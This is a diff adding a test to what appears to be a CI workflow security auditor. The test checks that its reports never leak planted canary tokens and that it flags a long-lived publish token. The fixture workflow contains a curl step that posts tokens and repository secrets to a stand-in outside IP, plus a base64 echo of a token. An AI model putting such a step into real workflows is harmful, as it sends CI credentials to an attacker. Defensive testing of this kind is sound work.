@@ -160,3 +160,37 @@ test('cordon rules lists every rule', () => {
     assert.match(result.stdout, new RegExp(`^${id} `, 'm'));
   }
 });
+
+test('no output format ever contains a planted secret', () => {
+  // Canary tokens in the real formats (synthetic values): a PyPI macaroon, a GitHub PAT, an
+  // OIDC-shaped JWT and an AWS key id, planted where findings, code frames and errors show text.
+  const pypi = `pypi-AgEIcHlwaS5vcmcCJGNhbmFyeS0wMDAwLTQwMDAtODAwMC0wMDAwMDAwMDAwMDACKlszLCI${'x'.repeat(120)}`;
+  const ghp = `ghp_${'Canary'.repeat(6)}`;
+  const jwt = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJyZXBvOmNhbmFyeS9jYW5hcnkifQ.c2lnbmF0dXJlLWNhbmFyeS0wMDAw';
+  const aws = 'AKIACANARY0123456789';
+  const workflow = `on: push
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: pypa/gh-action-pypi-publish@release/v1
+        with:
+          password: ${pypi}
+      - run: |
+          set -x
+          echo "${ghp}" | base64
+          curl -d "k=${jwt}&a=${aws}&t=\${{ secrets.T }}&u=\${{ secrets.U }}" https://203.0.113.9/collect
+`;
+  const broken = `on: push\njobs:\n  x: [${pypi}\n`;
+  const root = repo({ '.github/workflows/release.yml': workflow, '.github/workflows/broken.yml': broken });
+  for (const format of ['text', 'json', 'sarif', 'github']) {
+    const result = cordon(['audit', root, '-f', format, '--color']);
+    const everything = result.stdout + result.stderr;
+    assert.ok(result.stdout.length > 200, `${format}: produced a report`);
+    for (const canary of [pypi, ghp, jwt, aws]) {
+      assert.ok(!everything.includes(canary), `${format} output contains a planted secret (${canary.slice(0, 8)}…)`);
+    }
+  }
+  const json = JSON.parse(cordon(['audit', root, '-f', 'json']).stdout);
+  assert.ok(json.findings.some((finding: { rule: string; severity: string }) => finding.rule === 'long-lived-publish-token' && finding.severity === 'critical'));
+});
